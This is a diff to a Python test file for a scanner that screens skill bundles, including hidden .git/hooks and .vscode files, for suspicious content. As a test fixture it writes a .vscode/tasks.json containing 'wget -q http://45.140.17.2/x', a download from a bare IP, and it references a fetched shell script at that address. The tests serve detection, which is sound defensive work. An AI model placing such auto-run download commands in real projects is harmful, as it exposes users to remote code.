@@ -338,7 +338,8 @@ def test_flags_of_one_rule_are_few_and_never_overlap():
 
 def test_screening_says_the_same_every_time_and_of_any_text():
     odd = skill("".join(chr(n) for n in range(1, 0x3000)) + "&#x110000; &#9999999; &amp &;\\\n\ud7ff" * 3)
-    assert screen(odd) == screen(odd)
+    file = [BundledFile(Path("odd.py"), odd.body.encode("utf-8", "surrogatepass"), True)]
+    assert screen(odd) == screen(odd) and screen_texts(odd, file) == screen_texts(odd, file)
 
 
 def test_places_in_the_plain_text_lead_back():
@@ -439,6 +440,10 @@ def test_bundled_files_are_screened_and_a_find_names_its_file(tmp_path: Path):
     (tmp_path / "ok.py").write_text("print('fine')\n")
     (tmp_path / "SKILL.md").write_text("http://45.140.17.2/not-read-here")
     (flag,) = screen(skill("b"), tmp_path)
+    (tmp_path / ".vscode").mkdir()
+    (tmp_path / ".vscode" / "tasks.json").write_text('{"command": "wget -q http://45.140.17.2/x"}')
+    assert [one.field for one in screen(skill("b"), tmp_path)] == [flag.field, "./.vscode/tasks.json"]
+    (tmp_path / ".vscode" / "tasks.json").unlink()
     assert (flag.rule, flag.field, flag.start) == ("bare_address", "./scripts/deep/run.sh", 23)
     assert flag.span == "http://45.140.17.2/a.sh"
     assert screen_pool([skill("b")], WorkersConfig(num=1), {"a/b": tmp_path}) == {"a/b": [flag]}
@@ -462,13 +467,26 @@ def test_names_that_are_shown_alike_do_not_break_the_table(tmp_path: Path):
 
 
 def test_what_belongs_to_a_skill(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
-    for name in ("a/1.sh", "a/2.sh", "b.md", "big.bin", ".git/x", ".env", "inner/SKILL.md", "inner/x.py", "skill.MD"):
+    for name in (
+        "a/1.sh",
+        "a/2.sh",
+        "b.md",
+        "big.bin",
+        ".git/x",
+        ".git/hooks/a",
+        ".vscode/b",
+        ".env",
+        "inner/SKILL.md",
+        "inner/x.py",
+        "skill.MD",
+    ):
         (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
         (tmp_path / name).write_text("x" * (1000 if name == "big.bin" else 10))
     (tmp_path / "link").symlink_to(tmp_path / "b.md")
     monkeypatch.setattr(bundled, "MAX_BYTES", 500)
     files, num_left_out = bundled_files(tmp_path)
     assert [str(file.path) for file in files] == ["b.md", "a/1.sh", "a/2.sh"] and num_left_out == 1
+    assert [str(file.path) for file in bundled_files(tmp_path, hidden=True)[0]] == [".git/hooks/a", ".vscode/b"]
     monkeypatch.setattr(bundled, "MAX_FILES", 2)
     assert [len(bundled_files(tmp_path)[0]), bundled_files(tmp_path)[1]] == [2, 2]
 
